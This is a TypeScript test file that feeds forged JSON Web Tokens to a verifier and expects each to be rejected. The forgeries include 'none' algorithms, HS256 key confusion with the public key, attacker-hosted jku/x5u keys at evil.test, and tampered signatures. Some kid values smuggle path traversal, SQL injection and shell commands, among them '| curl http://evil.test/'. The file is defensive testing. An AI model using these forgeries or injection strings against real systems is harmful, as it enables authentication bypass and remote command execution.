import { createPublicKey } from "node:crypto";
import { describe } from "mocha";
import type { ErrorCode } from "../../../shared/errors.ts";
import { encodePart, hmacText, partsOf, type TokenForge } from "../../support/token-forge.ts";
import { describeRows, type TokenRow } from "./door.ts";

const json = (value: unknown) => JSON.stringify(value);
const unsigned = (forge: TokenForge, header: unknown) =>
  `${encodePart(header)}.${encodePart(forge.claims())}.`;
const publicKey = (forge: TokenForge) => createPublicKey(forge.rsa.key);
const publicPem = (forge: TokenForge) => String(publicKey(forge).export({ format: "pem", type: "spki" }));
const publicJwk = (forge: TokenForge) => createPublicKey(forge.foreign.key).export({ format: "jwk" });
/** The confusion of a public key with a secret. */
const hmacSigned = (forge: TokenForge, secret: string | Uint8Array) =>
  hmacText(secret, `${encodePart({ ...forge.header(), alg: "HS256" })}.${encodePart(forge.claims())}`);
/** By a key of the attacker's, who says where it is to be found. */
const attackers = (forge: TokenForge, member: Record<string, unknown>) =>
  forge.signed({ ...forge.header(), ...member }, forge.claims(), forge.foreign);

const rows: TokenRow[] = [
  ...["none", "None", "NONE", "nOnE", "none ", ""].flatMap((alg, at): TokenRow[] => [
    [
      `G${at + 1}`,
      `alg ${json(alg)} without a signature`,
      "algorithm-rejected",
      (f) => unsigned(f, { ...f.header(), alg }),
    ],
    [`G${at + 1}`, `alg ${json(alg)} with a genuine one`, "algorithm-rejected", (f) => f.withHeader({ alg })],
  ]),
  ...[
    undefined,
    null,
    ["RS256"],
    256,
    "rs256",
    "XX256",
    { alg: "RS256" },
    true,
    "RS256\u0000",
    "ＲＳ256",
  ].map(
    (alg, at): TokenRow => [
      `G${Math.min(7 + at, 11)}`,
      `alg ${json(alg)}`,
      "algorithm-rejected",
      (f) => f.withHeader({ alg }),
    ],
  ),
  ["G12", "HS256 keyed with the public key's PEM", "algorithm-rejected", (f) => hmacSigned(f, publicPem(f))],
  [
    "G13",
    "HS256 keyed with the PEM, trimmed",
    "algorithm-rejected",
    (f) => hmacSigned(f, publicPem(f).trim()),
  ],
  [
    "G14",
    "HS256 keyed with the DER",
    "algorithm-rejected",
    (f) => hmacSigned(f, publicKey(f).export({ format: "der", type: "spki" })),
  ],
  ["G15", "HS256 with an empty secret", "algorithm-rejected", (f) => hmacSigned(f, "")],
  ["G16", 'HS256 with the secret "secret"', "algorithm-rejected", (f) => hmacSigned(f, "secret")],
  ...(["RS384", "RS512", "PS256"] as const).map(
    (alg, at): TokenRow => [
      `G${18 + at}`,
      `${alg} by the same key`,
      "algorithm-rejected",
      (f) => f.withHeader({ alg }),
    ],
  ),
  [
    "G20",
    "PS256 by the same key, signed as such",
    "algorithm-rejected",
    (f) => f.signed({ ...f.header(), alg: "PS256" }, f.claims(), { ...f.rsa, alg: "PS256" }),
  ],
  [
    "G21",
    "ES256 under the RSA key's kid",
    "algorithm-rejected",
    (f) => f.signed({ ...f.header(f.ec), kid: f.rsa.kid }, f.claims(), f.ec),
  ],
  ["G21", "RS256 under the EC key's kid", "algorithm-rejected", (f) => f.withHeader({ kid: f.ec.kid })],
  ["G24", "an attacker's key in jwk", "header-rejected", (f) => attackers(f, { jwk: publicJwk(f) })],
  ...Object.entries({
    jku: "https://evil.test/jwks.json",
    x5u: "https://evil.test/chain.pem",
    x5c: ["MIIB"],
    x5t: "AAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "x5t#S256": "AAAA",
    jwk: { kty: "RSA", n: "AQAB", e: "AQAB" },
  }).flatMap(([name, value], at): TokenRow[] => [
    [
      `G${25 + Math.min(at, 3)}`,
      `an attacker's ${name}`,
      "header-rejected",
      (f) => attackers(f, { [name]: value }),
    ],
    ["G29", `${name} under a genuine signature`, "header-rejected", (f) => f.withHeader({ [name]: value })],
  ]),
  ...kidRows(31, [
    "",
    undefined,
    "unknown",
    "RSA-KEY",
    " rsa-key",
    "rsa-key\u0000",
    1,
    { $ne: 1 },
    ["rsa-key"],
    "k".repeat(5_000),
    "__proto__",
  ]),
  ...kidRows(41, ["constructor", null, true]),
  ...[
    "../../../../dev/null",
    "/dev/null",
    "x' UNION SELECT '1';--",
    "|sleep 10",
    "| curl http://evil.test/",
    "http://evil.test/key",
  ].flatMap((kid, at) => kidRows(42 + at, [kid])),
  ["G42", "the kid of a file, signed with what is in it", "key-unknown", (f) => hmacKid(f, "/dev/null", "")],
  [
    "G48",
    "a JWE of PBES2 with p2c 2^31",
    "token-malformed",
    () =>
      `${encodePart({ alg: "PBES2-HS256+A128KW", enc: "A128GCM", p2c: 2 ** 31, p2s: "AAAA" })}.AA.AA.AA.AA`,
  ],
  [
    "G48",
    "a JWE of ECDH-ES",
    "token-malformed",
    () => `${encodePart({ alg: "ECDH-ES", enc: "A128GCM", epk: { kty: "EC" } })}..AA.AA.AA`,
  ],
  ["G48", "p2c 2^31 in a JWS", "header-rejected", (f) => f.withHeader({ p2c: 2 ** 31 })],
];

function kidRows(first: number, kids: readonly unknown[]): TokenRow[] {
  return kids.map((kid, at) => [
    `G${Math.min(first + at, first === 31 ? 41 : first)}`,
    `kid ${json(kid)?.slice(0, 30)}`,
    "key-unknown",
    (f) => f.withHeader({ kid }),
  ]);
}

function hmacKid(forge: TokenForge, kid: string, secret: string): string {
  return hmacText(secret, `${encodePart({ ...forge.header(), kid })}.${encodePart(forge.claims())}`);
}

const signatures: TokenRow[] = (
  [
    ["none", () => new Uint8Array()],
    ["256 zero bytes", (s) => s.fill(0)],
    ["cut short by a byte", (s) => s.subarray(0, 255)],
    ["cut to one byte", (s) => s.subarray(0, 1)],
    ["with a byte after it", (s) => Buffer.concat([s, Buffer.alloc(1)])],
    ["with a zero byte before it", (s) => Buffer.concat([Buffer.alloc(1), s])],
    ["twice", (s) => Buffer.concat([s, s])],
    ["with its first bit flipped", (s) => flipped(s, 0)],
    ["with its last bit flipped", (s) => flipped(s, s.length * 8 - 1)],
    ["with all bits flipped", (s) => s.map((byte) => byte ^ 255)],
    ["with its bytes reversed", (s) => s.toReversed()],
  ] as const satisfies [string, (signature: Buffer) => Uint8Array][]
).map(
  ([what, change]): TokenRow => [
    "G23",
    `a signature: ${what}`,
    "signature-invalid",
    (f) => f.withSignature(change),
  ],
);

function flipped(signature: Buffer, bit: number): Uint8Array {
  return signature.map((byte, at) => (at === bit >> 3 ? byte ^ (0x80 >> (bit & 7)) : byte));
}

const invalid: ErrorCode = "signature-invalid";
const borrowed: TokenRow[] = [
  [
    "G23",
    "the signature of another token",
    invalid,
    (f) => `${partsOf(f.good()).input}.${partsOf(f.withClaims({ epoch: 9 })).signature}`,
  ],
  [
    "G23",
    "claims changed under it",
    invalid,
    (f) => `${partsOf(f.withClaims({ roles: ["admin"] })).input}.${partsOf(f.good()).signature}`,
  ],
  ["G23", "a space put into the header under it", invalid, withSpaceInHeader],
  ["G21", "another key's, under a known kid", invalid, (f) => f.signed(f.header(), f.claims(), f.foreign)],
];

function withSpaceInHeader(forge: TokenForge): string {
  const { payload, signature } = partsOf(forge.good());
  return `${encodePart(`${json(forge.header())} `)}.${payload}.${signature}`;
}

describe("bad inputs: algorithms, keys and signatures", () => {
  describeRows([...rows, ...signatures, ...borrowed]);
});
